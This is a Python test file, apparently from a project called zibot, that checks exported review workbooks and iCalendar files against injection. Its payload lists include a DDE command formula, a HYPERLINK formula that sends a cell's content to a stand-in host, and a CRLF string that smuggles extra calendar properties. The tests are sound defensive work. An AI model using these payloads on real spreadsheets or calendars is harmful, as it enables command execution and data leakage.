"""Whatever a document says, no cell of a workbook becomes a formula, and no line of a calendar another property."""

import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path

import icalendar
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from plans import FIRST, WORKDAYS, table

from zibot.plan import Area, Reading
from zibot.plan.ics import DueDay
from zibot.plan.review.look import put
from zibot.plan.review.read import read_review
from zibot.plan.review.shape import clean
from zibot.texts.files import calendar, review_workbook

NOW = datetime(2027, 1, 4, 0, 30, tzinfo=UTC)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "'", "|", "%", "＝", "＋", "－", "＠")
EVIL = (
    "=1+1",
    '=HYPERLINK("http://x/?"&A1;"klik")',
    "=cmd|'/c calc'!A1",
    "+62 812",
    "-5",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\n=1+1",
    "＝1+1",
    "_x003D_1+1",
    "#N/A",
    "{=1+1}",
    "TRUE",
    "1/3",
)
texts = st.builds("".join, st.tuples(st.sampled_from(("", " ", "\n", "\t", "\xa0")), st.sampled_from(SIGNS), st.text()))


@pytest.fixture(scope="module")
def plan(tmp_path_factory: pytest.TempPathFactory) -> Reading:
    return table(tmp_path_factory.mktemp("plan"), FIRST)


def with_text(plan: Reading, text: str) -> Reading:
    """The same words in each place that a document fills."""
    item = replace(
        plan.items[0],
        area=replace(plan.items[0].area, name=text),
        component=text,
        indicator=text,
        action=text,
        evidence=(text,),
        target=text,
        notes={text or "-": text},
    )
    return replace(plan, decree=replace(plan.decree, number=text, office=text, title=text), items=(item,), problems=())


def parts(workbook: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(workbook)) as package:
        return {name: package.read(name).decode() for name in package.namelist() if name.endswith((".xml", ".rels"))}


def no_formula(workbook: bytes) -> None:
    """No cell computes, nothing points outside, and what is looked up are lists of our own hidden sheet."""
    for name, xml in parts(workbook).items():
        if "/worksheets/" in name:
            assert not re.search(r"<f[ >/]", xml), name
            assert all(re.fullmatch(r"zibot!\$[BCD]\$1:\$[BCD]\$\d+", f) for f in re.findall(r"<formula1>(.*?)<", xml))
        assert 'TargetMode="External"' not in xml
        assert "externalLink" not in xml
    for sheet in openpyxl.load_workbook(BytesIO(workbook)):
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row if cell.value is not None} <= {"s"}
            assert not any(cell.hyperlink for cell in row)


@pytest.mark.parametrize("text", EVIL)
def test_words_of_a_document_stay_words_in_each_cell_and_come_back_unchanged(
    plan: Reading, tmp_path: Path, text: str
) -> None:
    reading = with_text(plan, text)
    file = tmp_path / "periksa.xlsx"
    file.write_bytes(review_workbook(reading))
    no_formula(file.read_bytes())
    assert read_review(file, workdays=WORKDAYS).items == reading.items


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=texts)
def test_no_words_at_all_become_a_formula(plan: Reading, text: str) -> None:
    no_formula(review_workbook(with_text(plan, text)))


@settings(max_examples=20, deadline=None)
@given(st.lists(texts, min_size=1, max_size=40))
def test_a_cell_holds_what_was_put_into_it_and_stays_text_when_someone_edits_it(words: list[str]) -> None:
    book = openpyxl.Workbook()
    for row, text in enumerate(words, 1):
        put(book.active.cell(row, 1), text)
    out = BytesIO()
    book.save(out)
    sheet = openpyxl.load_workbook(BytesIO(out.getvalue())).active
    for row, text in enumerate(words, 1):
        cell = sheet.cell(row, 1)
        assert (cell.value or "") == clean(text)
        assert cell.data_type in ("s", "n") if cell.value is None else cell.data_type == "s"
        if clean(text).strip()[:1] in tuple("=+-@"):
            assert cell.quotePrefix, text


PROPERTIES = {
    *("BEGIN", "END", "PRODID", "VERSION", "CALSCALE", "METHOD", "X-WR-CALNAME"),
    *("UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "CATEGORIES", "CLASS", "TRANSP"),
}
INJECTED = "x\r\nEND:VEVENT\r\nBEGIN:VALARM\nATTACH:http://x\u2028BEGIN:VEVENT\x85URL:http://x\x0bX-A:1\x0cX-B:1"
lines = (
    st.text(max_size=80) | st.just(INJECTED) | st.builds("{}\r\n{}".format, st.text(), st.just("ATTENDEE:mailto:a@b"))
)


@settings(max_examples=100, deadline=None)
@given(text=lines)
def test_no_words_become_another_property_of_a_calendar(text: str) -> None:
    day = DueDay(f"{text}@zibot", date(2027, 3, 31), text, Area(5, text), text, text, (text, text))
    made = calendar([day, replace(day, confidential=True)], office=text, year=2027, now=NOW)
    unfolded = made.decode().replace("\r\n ", "")
    names = [re.split("[:;]", line, maxsplit=1)[0] for line in unfolded.splitlines()]
    assert set(names) <= PROPERTIES
    assert names.count("BEGIN") == 3
    assert len(icalendar.Calendar.from_ical(made).walk("VEVENT")) == 2
